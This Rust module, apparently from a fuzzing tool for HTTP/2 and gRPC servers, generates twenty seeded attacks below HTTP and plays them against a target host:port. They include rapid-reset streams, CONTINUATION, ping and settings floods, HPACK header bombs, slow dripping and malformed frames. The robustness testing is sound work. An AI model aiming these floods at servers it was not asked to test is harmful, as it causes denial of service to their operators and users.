//! Attacks below HTTP: bytes that an orderly client never sends. Each is made from dice; playing one judges nothing.
use crate::dice::Dice;
use crate::frames::{END_HEADERS, END_STREAM, PREFACE, block, call_block, claiming, frame, kind, settings};
use crate::shot::{Bytes, Outcome, RawShot, Step};
use std::time::Duration;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};

/// Longest time that one attack takes.
const LIMIT: Duration = Duration::from_secs(8);
/// How long a connection may take, on a machine that is busy with the attack.
const CONNECT_TIMEOUT: Duration = Duration::from_secs(10);
/// The path that whole calls name: any method will do.
const PATH: &str = "/grpc.health.v1.Health/Check";

type Attack = fn(&mut Dice) -> Vec<Step>;

/// Every attack by its name.
const ATTACKS: [(&str, Attack); 20] = [
    ("junk", |dice| vec![send(junk(dice, 2_000))]),
    ("junk after the preface", |dice| vec![send([PREFACE.to_vec(), junk(dice, 2_000)].concat())]),
    ("random frames", random_frames),
    ("mutated call", mutated_call),
    ("headers flood", headers_flood),
    ("continuation without end", continuation_flood),
    ("rapid reset", rapid_reset),
    ("extreme settings", extreme_settings),
    ("settings flood", |_| vec![hello(), Step::Repeat(Bytes(settings(&[(3, 1), (4, 0)])), 5_000)]),
    ("window overflow", window_overflow),
    ("header compression junk", |dice| vec![hello(), send(compression_junk(dice))]),
    ("header bomb", header_bomb),
    ("ping flood", |_| vec![hello(), Step::Repeat(Bytes(frame(kind::PING, 0, 0, &[7; 8])), 10_000)]),
    ("empty data flood", empty_data_flood),
    ("misplaced frames", misplaced),
    ("too long a frame", |_| vec![hello(), send(claiming(0xff_ffff, kind::HEADERS, 4, 1, &[0; 20_000]))]),
    ("half open", |dice| vec![if dice.percent(50) { hello() } else { send(Vec::new()) }, Step::HalfClose]),
    ("slow bytes", |dice| vec![Step::Drip(Bytes(whole_call(dice)), 10)]),
    ("another protocol", other_protocol),
    ("silent", |dice| vec![Step::Listen(u64::try_from(dice.below(400)).unwrap_or(0))]),
];

/// The next attack.
pub fn attack(dice: &mut Dice) -> RawShot {
    let (name, make) = ATTACKS[dice.below(ATTACKS.len())];
    let mut steps = make(dice);
    steps.push(Step::Listen(100));
    RawShot { name: name.to_owned(), steps }
}

fn send(bytes: Vec<u8>) -> Step {
    Step::Send(Bytes(bytes))
}

/// Preface and settings, as an orderly client begins.
fn hello() -> Step {
    send([PREFACE.to_vec(), settings(&[])].concat())
}

fn junk(dice: &mut Dice, most: usize) -> Vec<u8> {
    let length = dice.below(most);
    dice.bytes(length)
}

fn any_u32(dice: &mut Dice) -> u32 {
    u32::try_from(dice.number() >> 32).unwrap_or(u32::MAX)
}

fn random_frames(dice: &mut Dice) -> Vec<Step> {
    let mut steps = vec![hello()];
    for _ in 0..dice.below(200) {
        let kind = u8::try_from(dice.below(14)).unwrap_or(0);
        let flags = u8::try_from(dice.below(256)).unwrap_or(0);
        let stream = match dice.below(4) {
            0 => 0,
            1 => any_u32(dice),
            _ => u32::try_from(dice.below(12)).unwrap_or(1),
        };
        let payload = junk(dice, 64);
        steps.push(send(frame(kind, flags, stream, &payload)));
    }
    steps
}

/// A right call from the first byte to the last.
fn whole_call(dice: &mut Dice) -> Vec<u8> {
    let message = [vec![0, 0, 0, 0, 4], dice.bytes(4)].concat();
    [
        PREFACE.to_vec(),
        settings(&[]),
        frame(kind::HEADERS, END_HEADERS, 1, &call_block(PATH)),
        frame(kind::DATA, END_STREAM, 1, &message),
    ]
    .concat()
}

fn mutated_call(dice: &mut Dice) -> Vec<Step> {
    let mut bytes = whole_call(dice);
    for _ in 0..=dice.below(6) {
        // Mostly behind the preface: without one nothing else is read.
        let place =
            if dice.percent(90) { 24 + dice.below(bytes.len() - 24) } else { dice.below(bytes.len()) };
        bytes[place] = u8::try_from(dice.below(256)).unwrap_or(0);
    }
    vec![send(bytes)]
}

/// Calls that are begun and never ended.
fn headers_flood(dice: &mut Dice) -> Vec<Step> {
    let count = u32::try_from(500 + dice.below(3_000)).unwrap_or(500);
    let block = call_block(PATH);
    let calls = (0..count).flat_map(|at| frame(kind::HEADERS, END_HEADERS, 2 * at + 1, &block));
    vec![hello(), send(calls.collect())]
}

fn continuation_flood(dice: &mut Dice) -> Vec<Step> {
    let more = block(&[("x-more", &vec![b'a'; dice.below(2_000)])]);
    vec![
        hello(),
        send(frame(kind::HEADERS, 0, 1, &call_block(PATH))),
        Step::Repeat(Bytes(frame(kind::CONTINUATION, 0, 1, &more)), 3_000),
    ]
}

fn rapid_reset(dice: &mut Dice) -> Vec<Step> {
    let block = call_block(PATH);
    let count = u32::try_from(500 + dice.below(3_000)).unwrap_or(500);
    let pair = |at: u32| {
        let stream = 2 * at + 1;
        [
            frame(kind::HEADERS, END_HEADERS, stream, &block),
            frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
        ]
        .concat()
    };
    vec![hello(), send((0..count).flat_map(pair).collect())]
}

fn extreme_settings(dice: &mut Dice) -> Vec<Step> {
    const VALUES: [u32; 8] = [0, 1, 16_383, 16_384, 0xff_ffff, 0x7fff_ffff, 0x8000_0000, u32::MAX];
    let mut pairs = Vec::new();
    for _ in 0..dice.below(20) {
        let name = u16::try_from(dice.below(12)).unwrap_or(0);
        pairs.push((name, VALUES[dice.below(VALUES.len())]));
    }
    let call =
        [frame(kind::HEADERS, END_HEADERS, 1, &call_block(PATH)), frame(kind::DATA, END_STREAM, 1, &[0; 5])];
    vec![send(PREFACE.to_vec()), send(settings(&pairs)), send(call.concat())]
}

fn window_overflow(dice: &mut Dice) -> Vec<Step> {
    let most = 0x7fff_ffff_u32.to_be_bytes();
    let update = |stream| frame(kind::WINDOW_UPDATE, 0, stream, &most);
    match dice.below(3) {
        0 => vec![hello(), send([update(0), update(0)].concat())],
        1 => {
            let call = frame(kind::HEADERS, END_HEADERS, 1, &call_block(PATH));
            vec![hello(), send([call, update(1), update(1)].concat())]
        }
        _ => vec![hello(), Step::Repeat(Bytes(frame(kind::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])), 10_000)],
    }
}

fn compression_junk(dice: &mut Dice) -> Vec<u8> {
    let payload = match dice.below(5) {
        0 => junk(dice, 500),
        // An index that is nowhere, a number without end, a table without bounds, a text longer than the frame.
        1 => vec![0xff, 0xff, 0xff, 0xff, 0x0f],
        2 => vec![0xff; 200],
        3 => vec![0x3f, 0xff, 0xff, 0xff, 0xff, 0x07],
        _ => vec![0x00, 0x7f, 0xff, 0xff, 0xff, 0x7f, b'a'],
    };
    frame(kind::HEADERS, END_HEADERS | END_STREAM, 1, &payload)
}

/// One header that is kept by the other side, then named again and again: a byte each.
fn header_bomb(dice: &mut Dice) -> Vec<Step> {
    let mut first = call_block(PATH);
    first.extend([0x40, 1, b'x', 0x7f]);
    first.extend(crate::spoil::varint(3_000 - 0x7f));
    first.extend(vec![b'a'; 3_000]);
    first.extend(vec![0xbe; 1_000 + dice.below(9_000)]);
    vec![hello(), send(frame(kind::HEADERS, END_HEADERS | END_STREAM, 1, &first))]
}

fn empty_data_flood(_: &mut Dice) -> Vec<Step> {
    let call = frame(kind::HEADERS, END_HEADERS, 1, &call_block(PATH));
    vec![hello(), send(call), Step::Repeat(Bytes(frame(kind::DATA, 0, 1, &[])), 10_000)]
}

fn misplaced(dice: &mut Dice) -> Vec<Step> {
    let call = call_block(PATH);
    let one = match dice.below(9) {
        0 => frame(kind::DATA, 0, 0, &[1; 10]),
        1 => frame(kind::DATA, END_STREAM, 7, &[1; 10]),
        2 => frame(kind::HEADERS, END_HEADERS, 0, &call),
        3 => frame(kind::HEADERS, END_HEADERS, 2, &call),
        4 => frame(kind::PRIORITY, 0, 3, &[0, 0, 0, 3, 255]),
        5 => frame(kind::PUSH_PROMISE, END_HEADERS, 1, &call),
        6 => frame(kind::GOAWAY, 0, 0, &[0xff; 8]),
        7 => frame(kind::CONTINUATION, END_HEADERS, 1, &call),
        _ => frame(kind::RST_STREAM, 0, 9, &[0; 4]),
    };
    vec![hello(), send(one)]
}

fn other_protocol(dice: &mut Dice) -> Vec<Step> {
    let texts: [&[u8]; 4] = [
        b"GET / HTTP/1.1\r\nHost: fuzz\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n",
        b"POST /a HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffff\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n",
    ];
    vec![send(dice.pick(&texts).to_vec())]
}

/// Plays an attack against host:port.
pub async fn play(address: &str, shot: &RawShot) -> Outcome {
    let connected = tokio::time::timeout(CONNECT_TIMEOUT, TcpStream::connect(address)).await;
    let stream = match connected {
        Ok(Ok(stream)) => stream,
        Ok(Err(error)) => return Outcome::Unreachable(error.to_string()),
        Err(_) => return Outcome::Unreachable("no connection in time".to_owned()),
    };
    let (reading, mut writing) = stream.into_split();
    let mut heard = tokio::spawn(listen(reading));
    // A server that has had enough closes; the rest of the attack then has nobody to hear it.
    let played = async {
        for step in &shot.steps {
            if take(step, &mut writing).await.is_err() {
                break;
            }
        }
    };
    tokio::time::timeout(LIMIT, played).await.ok();
    match tokio::time::timeout(Duration::from_millis(50), &mut heard).await {
        Ok(bytes) => Outcome::Heard { bytes: bytes.unwrap_or(0), closed: true },
        Err(_) => {
            heard.abort();
            Outcome::Heard { bytes: 0, closed: false }
        }
    }
}

/// Reads to the end, so that the other side can always write.
async fn listen(mut reading: OwnedReadHalf) -> usize {
    let mut buffer = vec![0; 64 << 10];
    let mut bytes = 0;
    while let Ok(count @ 1..) = reading.read(&mut buffer).await {
        bytes += count;
    }
    bytes
}

async fn take(step: &Step, writing: &mut OwnedWriteHalf) -> std::io::Result<()> {
    match step {
        Step::Send(bytes) => writing.write_all(&bytes.0).await,
        Step::Repeat(bytes, count) => {
            // In pieces of a hundred: a system call for each ping would slow the flood down.
            let hundred = bytes.0.repeat(100);
            for _ in 0..count.div_ceil(100) {
                writing.write_all(&hundred).await?;
            }
            Ok(())
        }
        Step::Drip(bytes, pause_ms) => {
            for byte in &bytes.0 {
                writing.write_all(&[*byte]).await?;
                tokio::time::sleep(Duration::from_millis(*pause_ms)).await;
            }
            Ok(())
        }
        Step::Listen(pause_ms) => {
            tokio::time::sleep(Duration::from_millis(*pause_ms)).await;
            Ok(())
        }
        Step::HalfClose => writing.shutdown().await,
    }
}

#[cfg(test)]
mod tests {
    use super::{ATTACKS, attack};
    use crate::dice::Dice;
    use std::collections::BTreeSet;

    #[test]
    fn a_seed_makes_the_same_attacks_again_and_every_one_of_them() {
        let attacks = |seed| {
            let mut dice = Dice::new(seed, 1);
            (0..400).map(|_| attack(&mut dice)).collect::<Vec<_>>()
        };
        assert_eq!(attacks(1), attacks(1));
        let names: BTreeSet<String> = attacks(1).into_iter().map(|shot| shot.name).collect();
        assert_eq!(names.len(), ATTACKS.len());
    }
}
